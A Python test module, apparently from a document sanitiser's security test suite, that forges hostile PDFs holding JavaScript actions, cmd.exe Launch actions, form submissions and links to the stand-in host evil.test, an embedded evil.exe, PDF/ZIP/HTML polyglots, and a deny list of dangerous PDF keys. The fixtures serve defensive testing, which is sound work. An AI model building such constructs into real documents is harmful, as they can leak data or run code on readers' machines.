"""Hostile documents: what acts, fetches, hides or swells in a PDF file."""

import io
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.hostile.forging import MARK, PDF, Hostile, document, jpeg, refused

DAMAGED, COMPLEX, ENCRYPTED = "file_damaged", "file_too_complex", "file_encrypted"
SCRIPT = "app.alert('HOSTILE-MARK')"
NEVER = (
    MARK, b"/JS", b"/JavaScript", b"/OpenAction", b"/AA", b"/Launch", b"/EmbeddedFile", b"/RichMedia", b"/XFA",
    b"/SubmitForm", b"/URI", b"/GoToR", b"/AcroForm", b"/Annots", b"/Metadata", b"/ImportData", b"/Names",
)  # fmt: skip


def corpus():
    acting = {f"PDF with {name}": Hostile(document(change), PDF, never=NEVER) for name, change in _acting().items()}
    return acting | _beside()


def _script():
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=SCRIPT)


def _action(kind, **members):
    return Dictionary(Type=Name.Action, S=Name(kind), **members)


def _link(action):
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 300, 200]), A=action)


def _file(pdf):
    stream = pdf.make_stream(b"MZ" + MARK, Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F="evil.exe", UF="evil.exe", EF=Dictionary(F=stream)))


def _on_root(name, value):
    def change(pdf, _page):
        pdf.Root[Name(name)] = value(pdf) if callable(value) else value

    return change


def on_page(name, value):
    def change(pdf, page):
        page[Name(name)] = value(pdf) if callable(value) else value

    return change


def _annotated(annotation):
    def change(pdf, page):
        made = annotation(pdf) if callable(annotation) else annotation
        page.Annots = pdf.make_indirect(Array([pdf.make_indirect(made)]))

    return change


def _field(**members):
    def change(pdf, page):
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Tx,
                T=String("name"),
                V=String("filled in"),
                DA=String("/F1 12 Tf 0 g"),
                Rect=Array([20, 20, 200, 40]),
                **members,
            )
        )
        page.Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), DR=page.Resources, XFA=pdf.make_stream(MARK))

    return change


def _drawing(**members):
    def change(pdf, page):
        box = Array([0, 0, 1, 1])
        page.Resources.XObject = Dictionary(X=pdf.make_stream(b"", Subtype=Name.Form, BBox=box, **members))

    return change


def _chained(pdf):
    return pdf.make_indirect(_action("/GoTo", D=Array([0]), Next=Array([_script(), _script()])))


def _acting():
    scripts = lambda: Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script()])))  # noqa: E731
    return {
        "a script among its names": _on_root("/Names", scripts()),
        "a script that opens with it": _on_root("/OpenAction", _script()),
        "a script behind a GoTo": _on_root("/OpenAction", _chained),
        "a script when it is closed": _on_root("/AA", Dictionary(WC=_script(), DP=_script())),
        "a script when a page is shown": on_page("/AA", Dictionary(O=_script(), C=_script())),
        "a script in a stream": _on_root(
            "/OpenAction", lambda pdf: Dictionary(S=Name.JavaScript, JS=pdf.make_stream(SCRIPT.encode()))
        ),
        "a script under a link": _annotated(_link(_script())),
        "a script in a field": _field(AA=Dictionary(K=_script(), F=_script())),
        "a script in a button": _annotated(
            Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Rect=Array([0, 0, 9, 9]), A=_script())
        ),
        "a form that sends itself": _field(A=_action("/SubmitForm", F="https://evil.test/HOSTILE-MARK")),
        "a form of XFA": _on_root("/AcroForm", lambda pdf: Dictionary(Fields=Array(), XFA=pdf.make_stream(MARK))),
        "data to import": _annotated(_link(_action("/ImportData", F="HOSTILE-MARK"))),
        "an address": _annotated(_link(_action("/URI", URI="https://evil.test/HOSTILE-MARK"))),
        "an address for all its links": _on_root("/URI", Dictionary(Base="https://evil.test/HOSTILE-MARK")),
        "a program to launch": _on_root("/OpenAction", _action("/Launch", F="cmd.exe HOSTILE-MARK")),
        "a program under a link": _annotated(_link(_action("/Launch", F="cmd.exe HOSTILE-MARK"))),
        "a jump to another file": _annotated(_link(_action("/GoToR", F="\\\\evil.test\\HOSTILE-MARK"))),
        "a jump into a file within": _annotated(_link(_action("/GoToE", F="HOSTILE-MARK"))),
        "a file among its names": _on_root(
            "/Names", lambda pdf: Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), _file(pdf)])))
        ),
        "a file pinned to a page": _annotated(
            lambda pdf: Dictionary(
                Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=_file(pdf)
            )
        ),
        "an associated file": _on_root("/AF", lambda pdf: Array([_file(pdf)])),
        "an associated file of a page": on_page("/AF", lambda pdf: Array([_file(pdf)])),
        "a portfolio": _on_root("/Collection", Dictionary(Type=Name.Collection, D=MARK.decode())),
        "a film that plays": _annotated(
            lambda pdf: Dictionary(
                Type=Name.Annot,
                Subtype=Name.RichMedia,
                Rect=Array([0, 0, 9, 9]),
                RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("a"), _file(pdf)]))),
            )
        ),
        "a rendition": _annotated(
            lambda pdf: Dictionary(
                Type=Name.Annot,
                Subtype=Name.Screen,
                Rect=Array([0, 0, 9, 9]),
                A=_action("/Rendition", JS=SCRIPT, R=Dictionary(C=Dictionary(D=_file(pdf)))),
            )
        ),
        "a film and a sound": _annotated(_link(_action("/Movie", T="HOSTILE-MARK", Next=_action("/Sound")))),
        "XMP": _on_root("/Metadata", lambda pdf: pdf.make_stream(MARK, Type=Name.Metadata, Subtype=Name.XML)),
        "XMP of a page": on_page("/Metadata", lambda pdf: pdf.make_stream(MARK, Type=Name.Metadata)),
        "a program's own data": on_page("/PieceInfo", Dictionary(Evil=Dictionary(Private=MARK.decode()))),
        "an author": lambda pdf, _page: pdf.docinfo.update({"/Author": MARK.decode(), "/Title": MARK.decode()}),
        "bookmarks that act": _on_root(
            "/Outlines", lambda pdf: Dictionary(First=pdf.make_indirect(Dictionary(Title=MARK.decode(), A=_script())))
        ),
        "a script in its resources": lambda _pdf, page: page.Resources.update({"/Evil": _script()}),
        "an action among its properties": lambda _pdf, page: page.Resources.update(
            {"/Properties": Dictionary(P=_action("/Launch", F="HOSTILE-MARK"))}
        ),
        "a stream kept in another file": _drawing(F="HOSTILE-MARK"),
        "a page kept in another file": _drawing(Ref=Dictionary(F="HOSTILE-MARK")),
    }


def _archive():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("evil.txt", MARK)
    return file.getvalue()


def _beside():
    html = b"<html><script>alert('HOSTILE-MARK')</script></html>"
    plain = document()
    return {
        "PDF with ZIP behind it": Hostile(plain + _archive(), PDF, (DAMAGED,), (*NEVER, b"PK\x03\x04")),
        "PDF with HTML in a remark": Hostile(
            plain.replace(b"\n", b"\n%" + html + b"\n", 1), PDF, (DAMAGED,), (*NEVER, b"<script")
        ),
        "PDF behind HTML": refused(html + plain, "file_type"),
        "PDF with HTML behind it": Hostile(plain + html, PDF, (DAMAGED,), (*NEVER, b"<script")),
        "PDF behind a JPEG's first bytes": refused(jpeg()[:20] + plain, DAMAGED),
        "PDF that was changed afterwards": Hostile(_updated(plain), PDF, (DAMAGED,), NEVER),
    }


def _updated(content):
    """Return the document with a second catalogue behind it, which opens with a script."""
    first = content.rindex(b"startxref") + 10
    before = int(content[first:].split()[0])
    with pikepdf.open(io.BytesIO(content)) as pdf:
        root, pages, size = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0], int(pdf.trailer.Size)
    place = len(content)
    opens = f"/OpenAction << /S /JavaScript /JS ({SCRIPT}) >>"
    body = f"{root} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R {opens} >>\nendobj\n"
    table = f"xref\n{root} 1\n{place:010} 00000 n \ntrailer\n<< /Size {size} /Root {root} 0 R /Prev {before} >>\n"
    return content + f"{body}{table}startxref\n{place + len(body)}\n%%EOF\n".encode()
